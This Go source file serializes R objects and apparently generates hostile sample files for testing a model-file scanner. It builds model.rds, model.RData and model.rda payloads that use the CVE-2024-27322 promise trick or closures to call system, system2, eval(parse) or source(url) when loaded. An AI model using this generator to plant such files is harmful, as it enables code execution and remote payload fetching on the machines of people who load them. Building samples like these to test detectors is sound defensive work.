package main

import (
	"encoding/binary"
	"fmt"
)

// Values of R, as serialize() writes them.
type (
	rSymbol  string
	rText    string
	rReal    float64
	rCall    []any // the function first
	rList    []any // a pairlist: tag, value, tag, value ...
	rPromise struct{ expr any }
	rClosure struct{ body any }
	rMissing struct{}
)

// rWriter writes XDR, or text.
type rWriter struct {
	out  []byte
	text bool
}

func (w *rWriter) num(n int) {
	if w.text {
		w.out = fmt.Appendf(w.out, "%d\n", n)
		return
	}
	w.out = binary.BigEndian.AppendUint32(w.out, uint32(n))
}

func (w *rWriter) chars(s string) {
	w.num(0x40009)
	w.num(len(s))
	w.out = append(w.out, s...)
	if w.text {
		w.out = append(w.out, '\n')
	}
}

func (w *rWriter) value(v any) {
	switch v := v.(type) {
	case nil:
		w.num(254)
	case rMissing:
		w.num(251)
	case rSymbol:
		w.num(1)
		w.chars(string(v))
	case rText:
		w.num(16)
		w.num(1)
		w.chars(string(v))
	case rReal:
		w.num(14)
		w.num(1)
		if w.text {
			w.out = fmt.Appendf(w.out, "%v\n", float64(v))
		} else {
			w.out = append(w.out, 0x3f, 0xf0, 0, 0, 0, 0, 0, 0)
		}
	case rCall:
		w.num(6)
		w.value(v[0])
		for _, x := range v[1:] {
			w.num(2)
			w.value(x)
		}
		w.num(254)
	case rList:
		for i := 0; i+1 < len(v); i += 2 {
			w.num(0x402)
			w.value(v[i])
			w.value(v[i+1])
		}
		w.num(254)
	case rPromise:
		w.num(5)
		w.num(252) // not evaluated yet
		w.value(v.expr)
	case rClosure:
		w.num(0x403)
		w.num(253) // the global environment
		w.num(0x402)
		w.value(rSymbol("object"))
		w.num(251)
		w.num(254)
		w.value(v.body)
	}
}

// rds is a file of saveRDS, not packed.
func rds(v any, text bool) []byte {
	w := &rWriter{text: text}
	w.out = []byte("X\n")
	if text {
		w.out = []byte("A\n")
	}
	w.num(2)
	w.num(0x30402)
	w.num(0x20300)
	w.value(v)
	return w.out
}

func rFiles(c *corpus) {
	const promise = "CVE-2024-27322 (R promises; HiddenLayer)"
	run := rPromise{rCall{rSymbol("system"), rText(cmd)}}
	c.hostile("other", "R promise", promise, "model.rds", rds(run, false))
	c.hostile("other", "R promise", promise, "model.rds", packed("gzip", rds(run, false)))
	c.hostile("other", "R promise", promise, "model.rds", packed("xz", rds(run, false)))
	c.hostile("other", "R promise", promise, "model.rds", rds(run, true))
	c.hostile("other", "R promise", promise, "model.rds", packed("gzip", rds(rPromise{rCall{rSymbol("eval"), rCall{rSymbol("parse"), rText("x.R")}}}, false)))
	c.hostile("other", "R promise", promise, "model.rds", packed("gzip", rds(rPromise{rCall{rSymbol("source"), rText(url)}}, false)))
	c.hostile("other", "R promise", promise, "model.RData", packed("gzip", append([]byte("RDX2\n"), rds(rList{rSymbol("model"), run}, false)...)))
	c.hostile("other", "R promise", promise, "model.rda", append([]byte("RDA2\n"), rds(rList{rSymbol("w"), rReal(1), rSymbol("model"), run}, true)...))
	c.hostile("other", "R promise in a list", promise, "model.rds", packed("gzip", rds(rList{rSymbol("coefficients"), rReal(1), rSymbol("fit"), run}, false)))
	c.hostile("other", "R function runs a program", "modelaudit R tests", "model.rds", packed("gzip", rds(rClosure{rCall{rSymbol("system"), rText(cmd)}}, false)))
	c.hostile("other", "R function runs a program", "modelaudit R tests", "model.RData", packed("gzip", append([]byte("RDX2\n"), rds(rList{rSymbol("print.model"), rClosure{rCall{rSymbol("system2"), rText(cmd)}}}, false)...)))
}
